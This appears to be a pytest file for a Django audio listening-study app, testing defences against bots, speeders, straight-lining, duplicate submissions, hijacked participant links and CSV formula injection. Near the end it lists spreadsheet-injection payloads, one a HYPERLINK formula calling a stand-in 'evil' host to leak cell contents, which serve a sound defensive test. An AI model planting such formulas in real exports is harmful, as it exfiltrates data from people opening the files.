"""What a bot, a speeder, a double click or someone else's link values can do: answers the
server cannot believe are refused or flagged, and nothing else changes."""

from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse

from metrics.reports import build_report
from studies import services
from studies.answers import AnswerConflict
from studies.integrity import REASON_SPEEDER, REASON_STRAIGHT_LINER, REASON_UNHEARD
from studies.models import Participant, Response, Trial
from tests.factories import (
    ALL_BLOCKS,
    answer_all,
    heard,
    listened,
    open_study,
    participant_of,
    right_answer,
    take_to_trials,
)

pytestmark = pytest.mark.django_db

RATING_ONLY = [{"kind": "rating"}]  # six main trials, no checks or repeats


def test_an_answer_whose_clip_the_server_never_sent_is_refused(material):
    study = open_study(RATING_ONLY)
    client = Client()  # a scripted client: it reads the page and answers at once
    participant = take_to_trials(client, study)
    assert client.get(study.participant_path()).status_code == 200
    trial = services.next_trial(participant)
    response = client.post(study.participant_path(), right_answer(trial))
    assert response.status_code == 400
    assert "has not loaded the clip yet" in response.content.decode()
    assert not Response.objects.exists()
    participant.refresh_from_db()
    assert participant.trials_done == 0 and participant.exclusion_reasons == []


def test_an_answer_sooner_than_its_clip_could_play_is_refused(material):
    study = open_study(RATING_ONLY)
    client = Client()
    participant = take_to_trials(client, study)
    client.get(study.participant_path())
    trial = services.next_trial(participant)
    clip = reverse("studies:clip", args=[study.access_key, trial.token, 0, "mp3"])
    assert client.get(clip).status_code == 200  # fetched, but not yet played to its end
    response = client.post(study.participant_path(), right_answer(trial))
    assert response.status_code == 400
    assert "sooner than the clip could have been played" in response.content.decode()
    assert not Response.objects.exists()
    trial.refresh_from_db()
    assert trial.shown_at is not None and trial.first_served_at is not None


def test_a_clip_fetched_by_someone_else_does_not_count_as_heard(material):
    study = open_study(RATING_ONLY)
    participant = take_to_trials(Client(), study)
    trial = services.next_trial(participant)
    clip = reverse("studies:clip", args=[study.access_key, trial.token, 0, "mp3"])
    assert Client().get(clip).status_code == 404
    trial.refresh_from_db()
    assert trial.first_served_at is None


def test_a_study_that_flags_stores_unheard_answers_and_excludes_the_listener(material):
    study = open_study(RATING_ONLY, answer_timing="flag")
    client = Client()
    participant = take_to_trials(client, study)
    trials = list(participant.trials.order_by("position"))
    for trial in trials:
        if trial.position != 2:
            heard(client, trial)
        assert client.post(study.participant_path(), right_answer(trial)).status_code == 302
    participant.refresh_from_db()
    assert participant.stage == "done"
    assert [r.too_fast for r in Response.objects.order_by("trial__position")] == [
        False, False, True, False, False, False
    ]  # fmt: skip
    assert REASON_UNHEARD in participant.exclusion_reasons
    report = build_report(study)
    assert report.listeners.excluded == 1 and report.listeners.analysed == 0
    assert report.listeners.exclusion_reasons == {REASON_UNHEARD: 1}


@pytest.mark.parametrize(("floor", "flagged"), [(5.0, True), (1.0, False)])
def test_a_listener_answering_faster_than_the_studys_floor_is_flagged(material, floor, flagged):
    # tests.factories.heard dates the page back by the clips' length plus 2 s: each answer
    # comes 2 s after the clips end.
    study = open_study(ALL_BLOCKS, speeder_floor_seconds=floor)
    client = Client()
    participant = take_to_trials(client, study)
    answer_all(client, participant)
    participant.refresh_from_db()
    assert (REASON_SPEEDER in participant.exclusion_reasons) is flagged
    report = build_report(study)
    assert report.listeners.excluded == int(flagged)


def test_one_rating_throughout_a_block_is_flagged_as_straight_lining(material):
    study = open_study(RATING_ONLY)
    straight, varied = Client(), Client()
    for client, ratings in ((straight, [5] * 6), (varied, [5, 5, 6, 5, 5, 5])):
        participant = take_to_trials(client, study)
        for trial, rating in zip(participant.trials.order_by("position"), ratings, strict=True):
            heard(client, trial)
            form = {**right_answer(trial), "rating": str(rating)}
            assert client.post(study.participant_path(), form).status_code == 302
    straight_liner = participant_of(straight, study)
    assert straight_liner.exclusion_reasons == [REASON_STRAIGHT_LINER]
    assert participant_of(varied, study).exclusion_reasons == []
    assert build_report(study).listeners.exclusion_reasons == {REASON_STRAIGHT_LINER: 1}


def test_the_same_answer_sent_twice_at_once_is_a_success_both_times(material, monkeypatch):
    """Two identical POSTs race: both read the trial unanswered before either is stored.
    The interleaving is made certain by hiding the stored answer from the second read."""
    from studies.services import participation

    study = open_study(RATING_ONLY)
    client = Client()
    participant = take_to_trials(client, study)
    trial = services.next_trial(participant)
    listened(trial)
    first_view = Participant.objects.select_related("study").get(pk=participant.pk)
    second_view = Participant.objects.select_related("study").get(pk=participant.pk)
    monkeypatch.setattr(participation, "_stored_answer", lambda trial: None)
    form = right_answer(trial)
    first = services.record_answer(first_view, trial.token, form)
    second = services.record_answer(second_view, trial.token, form)  # saw no answer either
    assert first.created and not second.created and second.response.pk == first.response.pk
    assert Response.objects.count() == 1
    participant.refresh_from_db()
    assert participant.trials_done == 1
    # A different answer in the same race is still a conflict, and the first one stands.
    with pytest.raises(AnswerConflict):
        services.record_answer(second_view, trial.token, {**form, "rating": "1"})


def test_link_values_alone_do_not_reach_someone_elses_study(material):
    study = open_study(RATING_ONLY)
    victim = Client()
    take_to_trials(victim, study, "?PROLIFIC_PID=victim&STUDY_ID=st&SESSION_ID=s-victim")
    trial = services.next_trial(participant_of(victim, study))
    for query in (
        "?PROLIFIC_PID=victim&STUDY_ID=st",
        "?PROLIFIC_PID=victim&STUDY_ID=st&SESSION_ID=guess",
    ):
        attacker = Client()
        page = attacker.get(study.participant_path() + query)
        assert page.status_code == 403
        text = page.content.decode()
        assert "started in another browser" in text and trial.token not in text
        listened(trial)
        answer = attacker.post(study.participant_path(), right_answer(trial))
        assert answer.status_code in (403, 400)
        assert not Response.objects.exists()
    assert Participant.objects.count() == 1
    # The real participant, in their own browser, goes on.
    heard(victim, trial)
    assert victim.post(study.participant_path(), right_answer(trial)).status_code == 302
    assert Response.objects.count() == 1


def test_declining_with_someone_elses_id_does_not_lock_them_out(material):
    study = open_study(RATING_ONLY)
    prankster = Client()
    prankster.get(study.participant_path() + "?pid=alice")
    assert (
        prankster.post(study.participant_path(), {"step": "consent", "consent": "no"}).status_code
        == 302
    )
    alice = take_to_trials(Client(), study, "?pid=alice")
    assert alice.stage == "trials" and alice.external_pid == "alice"
    assert Participant.objects.filter(stage="declined").count() == 1


def test_a_visit_without_cookies_writes_no_session_and_no_participant(material):
    from django.contrib.sessions.models import Session

    study = open_study(RATING_ONLY)
    for _ in range(5):
        assert Client().get(study.participant_path() + "?pid=x").status_code == 200
    assert not Session.objects.exists() and not Participant.objects.exists()


def test_dropping_cookies_does_not_reset_the_rate_limit(material, settings):
    study = open_study(RATING_ONLY)
    settings.RATE_LIMIT_PER_MINUTE = 5
    statuses = [Client().get(study.participant_path()).status_code for _ in range(7)]
    assert statuses[:5] == [200] * 5 and statuses[5:] == [429, 429]


def test_the_participant_hot_path_stays_within_its_query_budget(
    material, django_assert_max_num_queries
):
    """A trial page in at most 4 queries and an answer in at most 6, the integrity checks and
    the rate limit included (on PostgreSQL the limit counts in the database too)."""
    study = open_study(ALL_BLOCKS)
    client = Client()
    participant = take_to_trials(client, study)
    trials = list(participant.trials.order_by("position"))
    for trial in trials:
        with django_assert_max_num_queries(4):
            assert client.get(study.participant_path()).status_code == 200
        heard(client, trial)
        form = right_answer(trial)  # outside the count: it reads the trial's block
        with django_assert_max_num_queries(6):
            assert client.post(study.participant_path(), form).status_code == 302
    assert Response.objects.count() == len(trials)


def test_showing_a_trial_page_writes_nothing_and_answers_still_wait_for_their_clips(material):
    """A trial page writes nothing of the study (on SQLite each write queues for the one
    database lock; on PostgreSQL only the rate limit counts the request): the answer before
    it, or starting the trials, stamps when it went out. The next answer must still come its
    clips' playing time later, even with the next clip already prefetched."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    study = open_study(RATING_ONLY)
    client = Client()
    participant = take_to_trials(client, study)
    first, second = list(participant.trials.order_by("position"))[:2]
    for trial in (first, second):
        with CaptureQueriesContext(connection) as page:
            assert client.get(study.participant_path()).status_code == 200
        writes = [
            q["sql"]
            for q in page.captured_queries
            if q["sql"].startswith(("UPDATE", "INSERT")) and "studies_ratewindow" not in q["sql"]
        ]
        assert writes == [], writes
        trial.refresh_from_db()
        assert trial.shown_at is not None
        if trial == first:
            heard(client, first)
            prefetched = reverse("studies:clip", args=[study.access_key, second.token, 0, "mp3"])
            assert client.get(prefetched).status_code == 200
            assert client.post(study.participant_path(), right_answer(first)).status_code == 302
    second.refresh_from_db()
    Trial.objects.filter(pk=second.pk).update(
        first_served_at=second.shown_at - timedelta(minutes=5)
    )
    response = client.post(study.participant_path(), right_answer(second))
    assert response.status_code == 400
    assert "sooner than the clip could have been played" in response.content.decode()
    assert Response.objects.count() == 1


HOSTILE_IDS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "'=already quoted"]


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_csv_exports_cannot_run_formulas_and_import_back_unchanged(material, staff_client, hostile):
    from urllib.parse import quote

    study = open_study(RATING_ONLY)
    client = Client()
    participant = take_to_trials(client, study, f"?pid={quote(hostile)}")
    answer_all(client, participant)
    csv_text = staff_client.get(f"/studies/{study.slug}/answers.csv").content.decode()
    header, *lines = csv_text.splitlines()
    cells = [cell for line in lines for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells), csv_text
    assert not any(cell.startswith("-") and not cell[1:2].isdigit() for cell in cells)
    column = header.split(",").index("external_id")
    assert all(line.split(",")[column].strip('"').startswith("'") for line in lines)
    # JSON keeps the raw value; the CSV reads back to it.
    json_rows = staff_client.get(f"/studies/{study.slug}/answers.json").json()["answers"]
    assert {row["external_id"] for row in json_rows} == {hostile}
    from studies import exchange

    assert {row["external_id"] for row in exchange.read_rows(csv_text)} == {hostile}
    # A report's CSV tables are neutralised the same way.
    import io
    import zipfile

    archive = zipfile.ZipFile(
        io.BytesIO(staff_client.get(f"/studies/{study.slug}/report.zip").content)
    )
    for name in archive.namelist():
        for line in archive.read(name).decode().splitlines():
            assert not any(c.startswith(("=", "@", "+")) for c in line.split(","))
